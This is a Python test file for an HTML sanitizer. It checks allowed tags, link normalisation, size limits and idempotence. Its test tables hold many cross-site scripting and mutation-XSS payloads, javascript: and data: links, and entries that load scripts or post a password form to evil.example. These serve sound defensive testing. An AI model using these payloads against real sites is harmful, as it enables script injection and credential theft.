"""What somebody sends as HTML: a short list of tags is left, and nothing of it acts, loads, names or hides."""

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.errors import Invalid
from core.html import MAX_DEPTH, MAX_HTML, TAGS, _cleaned_once, clean, text_of

REL = ' rel="noopener noreferrer nofollow ugc"'
KEPT = [
    "<p>Hello <b>b</b> <strong>strong</strong> <i>i</i> <em>em</em> <u>u</u> <s>s</s><br>next</p>",
    "<ul><li>one</li><li>two<ol><li>three</li></ol></li></ul>",
    "<h3>Title</h3><h4>Lower</h4><blockquote><p>said</p></blockquote><hr><p>on</p>",
    "<pre><code>if a &lt; b:\n    c &amp;&amp; d</code></pre>",
    f'<p>See <a href="https://example.org/a?b=c&amp;d=e#f" title="a title"{REL}>this</a></p>',
    f'<a href="mailto:ann@example.org"{REL}>Ann</a> <a href="tel:+493012345"{REL}>call</a>',
    "<p>你好，<b>世界</b> 😀 {{7*7}} {% debug %} ${7*7} &lt;%= 7 %&gt;</p>",
]
# What is sent, and all that is left of it.
ATTACKS = [
    ("<script>alert(1)</script>x", "x"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>x", "x"),
    ("<scr\0ipt>alert(1)</scr\0ipt>x", "x"),
    ("<scr<script>ipt>alert(1)</script>x", "ipt&gt;alert(1)x"),
    ("<img src=x onerror=alert(1)>x", "x"),
    ('<img src="https://tracker.example/p.gif" width=1 height=1>x', "x"),
    ("<picture><source srcset=https://tracker.example/p></picture>x", "x"),
    ("<svg onload=alert(1)></svg>x", "x"),
    ("<svg><script>alert&#40;1)</script></svg>x", "x"),
    ("<svg><a xlink:href='javascript:alert(1)'><text>t</text></a></svg>x", "x"),
    ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>x", "&lt;p title=''&gt;x"),
    ("<iframe srcdoc='<script>alert(1)</script>'></iframe>x", "x"),
    ("<object data=x></object><embed src=x><applet code=x></applet>x", "x"),
    ("<meta http-equiv=refresh content='0;url=https://evil.example'>x", "x"),
    ("<base href='https://evil.example/'>x", "x"),
    ("<link rel=stylesheet href=https://evil.example/x.css>x", "x"),
    ("<form action=https://evil.example><input name=password><button>go</button></form>x", "gox"),
    ("<style>@import 'https://evil.example/x.css';</style>x", "x"),
    ("<p style='position:fixed;inset:0;background:url(//evil.example/p)'>x</p>", "<p>x</p>"),
    ("<!-- <script>alert(1)</script> -->x<!--[if IE]><script>alert(1)</script><![endif]-->", "x"),
    ("<!--><img src=x onerror=alert(1)>-->x", "--&gt;x"),
    ("<p id=cookie name=body class='box danger' lang=en dir=rtl data-x=1 slot=s is=x-y>x</p>", "<p>x</p>"),
    ("<p onclick=alert(1) ONMOUSEOVER=alert(1) on\0focus=alert(1) autofocus tabindex=1 contenteditable>x</p>", "<p>x</p>"),
    ("<video autoplay src=//evil.example/v onloadstart=alert(1)></video><audio src=x></audio>x", "x"),
    ("<dialog open>a</dialog><details open ontoggle=alert(1)>b</details><marquee onstart=alert(1)>c</marquee>", "abc"),
    ("<template><script>alert(1)</script></template><x-y>z</x-y>", "z"),
    ("<title>t</title><textarea>a</textarea><xmp>b</xmp>", "tab"),
    ("<b><i>x</b>y</i>", "<b><i>x</i></b><i>y</i>"),
    ("<a href=https://example.org onclick=alert(1) target=_top ping=//evil.example download>x</a>", f'<a href="https://example.org"{REL}>x</a>'),
    ("safe\u202elive\u202c \u2066x\u2069 &#x202e;y&#8238; &rlm;z", "safelive x y \u200fz"),
    ("a&#1;&#27;[31mb\x1b[0m&#x9f;", "a[31mb[0mŸ"),
    ("a\r\nb&#13;c\ud800d", "a\nb\ncd"),
]  # fmt: skip
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></table>x",
    "<math><style><img src=x onerror=alert(1)></style></math>x",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mtext>x",
    "<svg><desc><noembed></desc><img src=x onerror=alert(1)></noembed></svg>x",
    "<a title=\"</a><img src=x onerror=alert(1)>\" href=https://example.org>x</a>",
    "<p><![CDATA[<img src=x onerror=alert(1)>]]>x</p>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">x",
]  # fmt: skip
DEAD_LINKS = [
    "javascript:alert(1)", " javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\0script:alert(1)",
    "javascript&colon;alert(1)", "&#106;&#97;vascript:alert(1)", "java&Tab;script:alert(1)", "java&#x0A;script:alert(1)", "&#1;javascript:alert(1)",
    "java\u202escript:alert(1)", "java&#x202e;script:alert(1)", "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "file:///etc/passwd", "blob:https://example.org/x",
    "ftp://example.org/", "ws://example.org/", "intent://x#Intent;end", "about:blank", "view-source:https://example.org", "feed:https://example.org",
    "//evil.example", "\\\\evil.example", "/\\evil.example", "https:\\\\evil.example", "https://example.org\\@evil.example", "https:/evil.example",
    "https:evil.example", "https:///evil.example", "/sign-out", "sign-out", "?x", "#x", "", "https://", "https://?", "https://.",
    "https://bank.example@evil.example", "https://bank.example:443@evil.example/", "https://a:b@evil.example", "https://@evil.example",
    "https://ex%61mple.org", "https://bank.example%2f@evil.example", "https://exa mple.org", "https://[::1", "https://a..b", "https://a:99999",
    "https://fa\u00df.example", "https://a\u200db.example", "https://" + "\u00e4" * 300 + ".example",
    "mailto:", "mailto:a", "mailto:a@b%0d%0aBcc:c@d", "mailto:a@b,c@d", "tel:", "tel:*21*123%23", "tel:1;postd=2", "tel:javascript:1",
]  # fmt: skip
LIVE_LINKS = [
    ("HTTPS://EXAMPLE.org:8080/a b?c=ä#d", "https://example.org:8080/a%20b?c=%C3%A4#d"),
    ("http://example.org", "http://example.org"),
    ("https://example\n.org/", "https://example.org/"),
    ("https://bücher.example/", "https://xn--bcher-kva.example/"),
    ("https://аррӏе.com/", "https://xn--80ak6aa92e.com/"),
    ("https://例子.测试/路", "https://xn--fsqu00a.xn--0zwm56d/%E8%B7%AF"),
    ("https://ｅxample。org", "https://example.org"),
    ("https://[2001:db8::1]/", "https://[2001:db8::1]/"),
    ("https://example.org/@ann/%E4%BD%A0?u=a@b", "https://example.org/@ann/%E4%BD%A0?u=a@b"),
    ("https://example.org/&quot;onmouseover=&quot;alert(1)", "https://example.org/%22onmouseover=%22alert(1)"),
    ("https://example.org/\u202egnp.exe", "https://example.org/gnp.exe"),
    ("MAILTO:Ann@example.org?bcc=evil@example.org&body=x", "mailto:Ann@example.org"),
    ("tel:+49 (30) 12-345", "tel:+493012345"),
]


@pytest.mark.parametrize("html", KEPT)
def test_what_is_allowed_stays_letter_by_letter(html):
    assert clean(html) == html


@pytest.mark.parametrize(("html", "left"), ATTACKS)
def test_what_is_not_allowed_disappears_and_its_text_stays(html, left):
    assert clean(html).replace("\n", "").replace(" ", "") == left.replace("\n", "").replace(" ", "")


@pytest.mark.parametrize("html", MUTATIONS)
def test_what_would_change_when_read_again_is_harmless_at_the_first_reading(html):
    assert_harmless(clean(f"<p>y</p>{html}"))


@pytest.mark.parametrize("address", DEAD_LINKS)
def test_a_link_that_acts_or_hides_where_it_leads_is_only_its_text(address):
    assert clean(f'<a href="{address}" title="t">x</a>') == "x"


@pytest.mark.parametrize(("address", "shown"), LIVE_LINKS)
def test_a_link_leads_where_it_says(address, shown):
    assert clean(f'<a href="{address}">x</a>') == f'<a href="{shown}"{REL}>x</a>'


def test_words_of_blocks_that_are_not_kept_do_not_run_together():
    html = "<table><tr><td>one<td>two<tr><th>three</table><div>four</div><div>five</div><h1>six</h1>seven"
    assert clean(html).split() == ["one", "two", "three", "four", "five", "six", "seven"]


TOO_MUCH = {
    "characters": "x" * (MAX_HTML + 1),
    "attributes": "<a " + " ".join(f"a{number}=1" for number in range(100_000)) + ">x</a>",
    "divs": "<div>" * 20_000 + "x",
    "links that grow": "<a href=http://a>x</a>" * 2000,
    "paragraphs that grow": "<p><b><i><u><s>" * 10 + "<p>x" * 10_000,
    "signs that grow": "&" * MAX_HTML,
    "quotes": "<blockquote>" * (MAX_DEPTH + 1) + "x",
    "lists": "<ul><li>" * 2000 + "x",
    "marks": "<b><i>" * 200 + "x",
}


@pytest.mark.parametrize("html", TOO_MUCH.values(), ids=TOO_MUCH)
def test_too_much_is_refused_and_the_limit_told(html):
    with pytest.raises(Invalid) as refused:
        clean(html)
    assert refused.value.field == "html"
    assert str(MAX_HTML) in refused.value.message or str(MAX_DEPTH) in refused.value.message


def test_nesting_up_to_the_limit_is_fine():
    html = "<blockquote>" * MAX_DEPTH + "x" + "</blockquote>" * MAX_DEPTH
    assert clean(html) == html
    assert clean("<div>" * 3900 + "x") == "x"


def test_unclosed_marks_do_not_multiply():
    """Each differs from the others, so a parser would open all of them again in every paragraph: 10 million elements."""
    html = "<p>" + "".join(f"<font {number}><b/{number}>" for number in range(500)) + "<p>x" * 1000
    assert len(html) < MAX_HTML
    assert _cleaned_once(html).count("<b>") == 500 + 3 * 1000


@pytest.mark.parametrize(
    "html", ["", " \n", "<p></p>", "<p>&nbsp;<br></p>", "<hr>", "<b>\u200b\u202e</b>", "<img src=x>", "<!-- x -->", "<script>x</script>", "<a href=x></a>"],
)  # fmt: skip
def test_what_shows_no_word_is_refused(html):
    with pytest.raises(Invalid) as refused:
        clean(html)
    assert refused.value.field == "html"


def test_the_words_come_block_by_block():
    html = clean(
        "<h3>Title</h3><p>One <b>t</b>wo<br>three&nbsp;&amp;  four</p><ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"
        "<pre><code>if x:\n    y &lt; 1</code></pre><hr><p> </p><blockquote><p>end</p></blockquote>"
    )
    assert text_of(html) == "Title\nOne two\nthree & four\na\nb\nc\nif x:\ny < 1\nend"


def test_the_words_hold_what_only_looks_like_a_tag():
    assert (
        text_of(clean("&lt;script&gt;alert(1)&lt;/script&gt; 1 < 2 > 0 &amp;lt;"))
        == "<script>alert(1)</script> 1 < 2 > 0 &lt;"
    )


NAMES = "p b i u s a ul li ol pre code h3 hr br div table tr td svg math style script img form template select object noscript title textarea"
PIECES = st.one_of(
    st.sampled_from([f"<{name}>" for name in NAMES.split()] + [f"</{name}>" for name in NAMES.split()]),
    st.sampled_from([f'<a href="{address}" title="{name}">' for address in DEAD_LINKS for name in ("t", "<b>", "&quot;>")]),
    st.sampled_from(["<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&#13;", "&#0;", "&#x202e;", "\n", "\r", "\f", " ", "x", '"', "'", "<", "/>", "=", "\0"]),
    st.sampled_from([html for html, _left in ATTACKS] + MUTATIONS + KEPT),
    st.text(max_size=6),
)  # fmt: skip


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(PIECES, max_size=25).map("".join))
def test_cleaning_again_changes_nothing(html):
    try:
        cleaned = clean(html)
    except Invalid:
        return
    assert clean(cleaned) == cleaned
    assert_harmless(cleaned)
    assert text_of(cleaned)


@pytest.mark.parametrize("html", [html for html, _left in ATTACKS] + MUTATIONS + KEPT)
def test_cleaning_what_was_cleaned_changes_nothing(html):
    cleaned = clean(f"<p>y</p>{html}")
    assert clean(cleaned) == cleaned


def assert_harmless(html: str) -> None:
    """Only tags of the list, only the two attributes and the fixed one, read by another parser than the one that cleaned."""
    from html.parser import HTMLParser

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            names = dict(attrs)
            assert tag in TAGS, html
            assert set(names) <= ({"href", "title", "rel"} if tag == "a" else set()), html
            assert names.get("href", "tel:").startswith(("http://", "https://", "mailto:", "tel:")), html

        def handle_comment(self, text):
            raise AssertionError(html)

    Reader().feed(html)
